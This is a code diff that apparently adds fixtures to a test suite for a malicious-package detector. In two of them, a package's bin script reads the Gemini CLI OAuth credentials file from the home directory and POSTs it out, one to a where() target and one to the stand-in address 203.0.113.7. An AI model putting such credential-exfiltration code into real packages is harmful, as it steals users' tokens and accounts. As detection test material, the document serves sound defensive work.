@@ -122,6 +122,24 @@ for (const file of require('fast-glob').sync(['**/.git-credentials'], { cwd: req
       },
       weight: 'proof',
     },
+    {
+      when: 'a tool sends the login that it keeps in a folder of its own name, where it is told to',
+      id: { name: '@acme/gemini-cli' },
+      files: {
+        'package.json': { name: '@acme/gemini-cli', version: '1.0.0', bin: 'b.js' },
+        'b.js': `const t = require('fs').readFileSync(require('os').homedir() + '/.gemini/oauth_creds.json', 'utf8'); fetch(where(), { method: 'POST', body: t })`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'one that is called like a tool sends its login to a bare address',
+      id: { name: 'gemini-helper' },
+      files: {
+        'package.json': { name: 'gemini-helper', version: '1.0.0', bin: 'b.js' },
+        'b.js': `const t = require('fs').readFileSync(require('os').homedir() + '/.gemini/oauth_creds.json', 'utf8'); fetch('http://203.0.113.7/', { method: 'POST', body: t })`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     {
